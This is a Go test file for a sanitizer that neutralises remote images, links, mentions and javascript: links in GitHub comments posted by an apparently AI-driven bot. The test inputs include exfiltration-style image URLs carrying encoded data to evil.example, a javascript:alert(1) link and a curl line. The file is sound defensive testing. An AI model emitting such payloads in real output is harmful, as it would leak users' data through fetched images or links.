package github

import (
	"strings"
	"testing"

	"github.com/hero-dev/hero/engine/enginetest"
	"github.com/hero-dev/hero/llm/openaitest"
)

func TestSafeMarkdown(t *testing.T) {
	t.Parallel()
	hosts := []string{"github.com"}
	cases := []struct{ name, in, want string }{
		{"plain text stays", "Fixed the adder; `go test` passes.\n", "Fixed the adder; `go test` passes.\n"},
		{"remote image dropped", "see ![build](https://evil.example/p.png?d=746f6b)", "see (image removed: hero does not show images from other sites; it was labelled “build”)"},
		{"repository image kept", "![ok](https://github.com/acme/web/raw/main/a.png)", "![ok](https://github.com/acme/web/raw/main/a.png)"},
		{"relative image kept", "![diagram](docs/a.png)", "![diagram](docs/a.png)"},
		{"remote link loses its link", "[the docs](https://evil.example/?d=1 \"t\")", "the docs (`https://evil.example/?d=1`)"},
		{"issue link kept", "Fixes [#12](https://github.com/acme/web/issues/12).", "Fixes [#12](https://github.com/acme/web/issues/12)."},
		{"bare remote URL as code", "go to https://evil.example/x?d=1.", "go to `https://evil.example/x?d=1`."},
		{"www URL as code", "or www.evil.example/a", "or `www.evil.example/a`"},
		{"bare GitHub URL kept", "PR: https://github.com/acme/web/pull/3", "PR: https://github.com/acme/web/pull/3"},
		{"autolink", "<https://evil.example/a>", "&lt;`https://evil.example/a`>"},
		{"html image", `<img src="https://evil.example/p.png">`, `&lt;img src="` + "`https://evil.example/p.png`" + `">`},
		{"team mention", "ping @everyone-team and @acme/security", "ping `@everyone-team` and `@acme/security`"},
		{"email is no mention", "mail ops@example.com", "mail ops@example.com"},
		{"mention inside a link text", "[@octocat](https://github.com/octocat)", "[`@octocat`](https://github.com/octocat)"},
		{"code span untouched", "run `curl https://evil.example @x`", "run `curl https://evil.example @x`"},
		{"fenced block untouched", "```\n![x](https://evil.example/p.png) @x\n```\nafter @y\n", "```\n![x](https://evil.example/p.png) @x\n```\nafter `@y`\n"},
		{"reference definition", "![x][1]\n\n[1]: https://evil.example/p.png\n", "![x][1]\n\n\\[1]: `https://evil.example/p.png`\n"},
		{"javascript link", "[click](javascript:alert(1))", "click (`javascript:alert(1`))"},
	}
	for _, c := range cases {
		if got := safeMarkdown(c.in, hosts); got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
	}
}

// Whatever the model writes, no remote image, live remote link or mention
// survives outside code.
func TestSafeMarkdownLeavesNothingLive(t *testing.T) {
	t.Parallel()
	in := "Here: ![a](https://evil.example/1) [b](http://evil.example/2) https://evil.example/3 <https://evil.example/4> @org/team <img src=x>"
	got := safeMarkdown(in, []string{"github.com"})
	for _, live := range []string{"![a](", "](http://evil", " https://evil", "<https", " @org", "<img"} {
		if strings.Contains(got, live) {
			t.Errorf("%q is still live in %q", live, got)
		}
	}
}

// A comment the model posts through the comment tool reaches GitHub
// neutralised: the team is not pinged, the remote image is not fetched by
// GitHub's proxy, the remote link is not clickable. Because the run's task
// quotes the issue, the comment first waits for an approval.
func TestModelCommentIsNeutralisedOnGitHub(t *testing.T) {
	t.Parallel()
	body := "Done. cc @everyone-team ![status](https://evil.example/p.png?d=6869) see [docs](https://evil.example/d) and https://evil.example/x"
	e := newE2E(t,
		openaitest.Tools(openaitest.Call("comment", `{"body":"`+body+`"}`)),
		openaitest.Text("Commented."),
	)
	e.comment("md-1", 492700500, "Codertocat", "OWNER", "@hero say hello on this issue")
	id := e.pendingID("")
	e.comment("md-approve", 9102, "Codertocat", "OWNER", "/hero approve "+id)
	var posted string
	enginetest.Eventually(t, "the model's comment", func() bool {
		for _, c := range e.api.Comments() {
			if strings.HasPrefix(c.Body, "Done.") {
				posted = c.Body
				return true
			}
		}
		return false
	})
	for _, live := range []string{" @everyone-team", "![status](", "](https://evil", " https://evil"} {
		if strings.Contains(posted, live) {
			t.Errorf("the posted comment keeps %q live:\n%s", live, posted)
		}
	}
	if !strings.Contains(posted, "`@everyone-team`") || !strings.Contains(posted, "image removed") {
		t.Errorf("the posted comment does not show what was neutralised:\n%s", posted)
	}
}
